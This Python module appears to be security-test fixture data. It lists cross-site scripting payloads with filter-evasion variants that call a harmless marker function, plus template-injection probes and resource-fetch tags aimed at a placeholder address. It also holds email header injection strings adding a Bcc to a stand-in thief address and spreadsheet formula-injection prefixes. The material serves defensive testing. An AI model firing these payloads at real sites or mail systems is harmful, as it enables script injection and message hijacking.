"""What somebody might write who wants it to be more than text. ``{at}`` names where it stands."""

from random import Random

CALL = "b1bad"
"""The function that a payload calls, the element it makes, and the attribute it sets."""

_RUN = "b1bad('{at}')"

_IMG = f'<img/src="x"/onerror={_RUN}>'

LIVE = (
    f"<script>{_RUN}</script>",
    f"<script/src=data:,{_RUN}></script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    _IMG,
    f'<IMG/SRC="x"/ONERROR={_RUN}>',
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body/onload={_RUN}>",
    f'<details/open=""/ontoggle={_RUN}>',
    f'<input/autofocus=""/onfocus={_RUN}>',
    f'<video/src="x"/onerror={_RUN}>',
    f'<iframe/srcdoc="<svg/onload=parent.{_RUN}>">',
    f"<iframe/src=javascript:parent.{_RUN}>",
    f"<object/data=javascript:{_RUN}>",
    f'"><svg/onload={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f'"/autofocus=""/onfocus="{_RUN}"/x="',
    f"'/onmouseover=\"{_RUN}\"/b1bad='",
    f"x onfocus={_RUN} autofocus",
    f"</title><svg/onload={_RUN}>",
    f"</textarea>{_IMG}",
    f"</style></noscript></template>{_IMG}",
    f"--><svg/onload={_RUN}>",
    f"]]>{_IMG}",
    f"<math><mtext><table><mglyph><style><!--</style>{_IMG}",
    f"<b1bad/b1bad=1/style=x:expression({_RUN})>",
    f"<a/href=javascript:{_RUN}>x</a>",
    f"<form/action=javascript:{_RUN}><button>x",
    f"<button/formaction=javascript:{_RUN}/form=x>x",
    f"<meta/http-equiv=refresh/content=0;url=javascript:{_RUN}>",
    f"<base/href=//b1bad.example/>{_RUN}",
    f"<link/href=//b1bad.example/x/rel=stylesheet>{_RUN}",
    f"<div/hx-on:load={_RUN}>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
    f"//b1bad.example/{_RUN}",
    f"<<script>script>{_RUN}<</script>/script>",
)
"""Ways to a script where nothing is escaped; most hold no blank, so that a first name is one."""

SLEEPING = (
    f"&lt;img/src=&quot;x&quot;/onerror={_RUN}&gt;",
    f"&#60;img/src=&#34;x&#34;/onerror={_RUN}&#62;",
    f"%3Cimg/src=%22x%22/onerror={_RUN}%3E",
    f"\\u003cimg/src=x/onerror={_RUN}\\u003e",
    f"\uff1cimg/src=x/onerror={_RUN}\uff1e",
    f"<img\x00/src=x/onerror={_RUN}>",
    f"{{{{7919*7907}}}}{_RUN}",
    f"{{% print(7919*7907) %}}{_RUN}",
    f"${{7919*7907}}#{{7919*7907}}<%=7919*7907%>{_RUN}",
)
"""Ways that need one more decoding, or a template."""

MARKUP = (*LIVE, *SLEEPING)

LINKS = tuple(way for way in LIVE if not way.startswith(("<", '"', "'", "-", "]", "x")))
"""Those that are whole addresses."""

RAN_IN_A_TEMPLATE = "62615533"
"""What a template would make of the product in it."""


FETCHES = {
    "image": "<img src='{at}' alt='x'>",
    "image set": "<img srcset='{at} 2x' src='{at}' alt='x'>",
    "linked stylesheet": "<link rel=stylesheet href='{at}'>",
    "import": "<style>@import url('{at}');</style>",
    "background": "<p style=\"background: url('{at}')\">x</p>",
    "list image": "<ul style=\"list-style-image: url('{at}')\"><li>x</li></ul>",
    "content": "<style>p::before {{ content: url('{at}') }}</style><p>x</p>",
    "font": "<style>@font-face {{ font-family: q; src: url('{at}') }} p {{ font-family: q }}"
    "</style><p>x</p>",
    "border image": "<p style=\"border: 9px solid; border-image: url('{at}') 9\">x</p>",
    "mask": "<p style=\"mask-image: url('{at}')\">x</p>",
    "object": "<object data='{at}'></object>",
    "embed": "<embed src='{at}'>",
    "svg image": "<svg width='9' height='9'><image href='{at}' width='9' height='9'/></svg>",
    "svg use": "<svg width='9' height='9'><use href='{at}#a'/></svg>",
    "link attachment": "<link rel=attachment href='{at}'>",
    "anchor attachment": "<a rel=attachment href='{at}'>x</a>",
    "base": "<base href='{at}'><img src='x.png' alt='x'>",
    "page background": "<style>@page {{ background: url('{at}') }}</style>",
}
"""What a page may ask the printing program to fetch from ``at``, by name."""


def markup(dice: Random, at: str) -> str:
    """Return one of the ways, by chance, marked with the place."""
    return dice.choice(LINKS if at.endswith("_link") else MARKUP).replace("{at}", at)


_ENDS = ("\r\n", "\n", "\r", "\r\n\r\n", "\x0b", "\x0c", "\x85", "\u2028", "%0d%0a", "\\r\\n")

BREAKS = (
    *(
        f"{before}{end}{header}"
        for before in ("solsort", "")
        for end in _ENDS
        for header in (
            "Bcc: thief@b1bad.example",
            "To: thief@b1bad.example",
            "Subject: b1bad",
            "X-B1bad: 1",
            "Content-Type: text/html\r\n\r\n<b1bad>",
            "BEGIN:VALARM\r\nATTENDEE:mailto:thief@b1bad.example",
        )
    ),
    "=?utf-8?q?x=0D=0ABcc:_thief=40b1bad.example?=",
    "=?utf-8?b?eA0KQmNjOiB0aGllZkBiMWJhZC5leGFtcGxl?=",
    "=?iso-8859-1?q?=0A?= =?utf-8?q?Subject:_b1bad?=",
    '"thief" <thief@b1bad.example>',
    "solsort, thief@b1bad.example",
    "\x00\x1b[2Jsolsort\x7f",
    "solsort" * 300,
)
"""Words that would be headers, recipients or lines of a calendar file."""

FORMULAS = (
    *("=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "\0=", " =", "\x0b="),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\u200b=", "\ufeff=", "\u2060=", "\u202e="),
    *("'=", "''=", '"=', "_x003D_", "_x005F_", "\ufe66", "\u207c", "{="),
)
"""What a cell may begin with that a spreadsheet might take for a formula."""
